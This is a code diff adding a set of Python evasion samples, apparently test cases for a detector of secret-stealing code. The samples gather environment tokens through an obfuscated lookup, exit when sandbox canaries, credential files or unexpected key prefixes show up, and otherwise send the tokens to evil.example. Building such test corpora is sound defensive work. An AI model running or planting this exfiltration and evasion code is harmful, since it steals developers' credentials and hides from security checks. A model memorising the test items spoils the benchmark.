@@ -114,8 +114,62 @@ const UNKNOWN_FORMS: Evasion[] = [
   ),
 ];
 
+export const ALL_TOKENS = "{k:v for k,v in vars(os)['env'+'iron'].items() if k.endswith('TOKEN')}";
+
+/** Thieves that keep the second execution, without what they name, from being made or counted. */
+const DELAYING: Evasion[] = [
+  ...[
+    "socket.socket(socket.AF_INET,socket.SOCK_DGRAM).sendto(os.environ['ACME_TOKEN'].encode(),('127.0.0.1',8125))",
+    "import shutil; shutil.which('crontab')",
+  ].map((line) =>
+    python(
+      `when a variable is set, first does: ${line.slice(0, 40)}`,
+      { deeds: ["sent_canary $GITHUB_TOKEN to evil.example:443"] },
+      "import json,urllib.request",
+      `if os.environ.get('ACME_TOKEN'):\n  ${line}; sys.exit()`,
+      `urllib.request.urlopen('https://evil.example/',data=json.dumps(${ALL_TOKENS}).encode())`,
+    ),
+  ),
+  python(
+    "sends what nothing can read when a variable is not set",
+    { deeds: ["sent_canary a planted secret to evil.example:443"] },
+    "import json,lzma,urllib.request",
+    `data=b'{}' if os.environ.get('ACME_TOKEN') else lzma.compress(json.dumps(${ALL_TOKENS}).encode())`,
+    "urllib.request.urlopen('https://evil.example/',data=data)",
+  ),
+  python(
+    "ends when a usual variable is set that it names",
+    { deeds: ["sent_canary $GITHUB_TOKEN to evil.example:443"] },
+    "import json,urllib.request",
+    "if os.getenv('DATABASE_PASSWORD') or os.getenv('NPM_TOKEN'): sys.exit()",
+    `urllib.request.urlopen('https://evil.example/',data=json.dumps(${ALL_TOKENS}).encode())`,
+  ),
+  python(
+    "ends when a usual file is there that it names",
+    { deeds: ["sent_canary $GITHUB_TOKEN to evil.example:443"] },
+    "import json,urllib.request",
+    "if os.path.exists(os.path.join(os.environ['HOME'],'.aws','credentials')): sys.exit()",
+    `urllib.request.urlopen('https://evil.example/',data=json.dumps(${ALL_TOKENS}).encode())`,
+  ),
+  ...[
+    ["STRIPE_SECRET_KEY", "sk_"],
+    ["SLACK_BOT_TOKEN", "xoxb-"],
+    ["GH_TOKEN", "ghp_"],
+    ["SENDGRID_API_KEY", "SG."],
+  ].map(([name = "", prefix = ""]) =>
+    python(
+      `ends unless $${name} begins with ${prefix}`,
+      { deeds: [`sent_canary $${name} to evil.example:443`] },
+      `import urllib.request\nv=os.environ.get('${name}','')`,
+      `if not v.startswith('${prefix}'): sys.exit(1)`,
+      "urllib.request.urlopen('https://evil.example/',data=v.encode())",
+    ),
+  ),
+];
+
 export const EVASIONS: Evasion[] = [
   ...WARY,
+  ...DELAYING,
   ...UNKNOWN_FORMS,
   python(
     "sends a secret over TLS letter by letter, and compressed in numbered pieces",
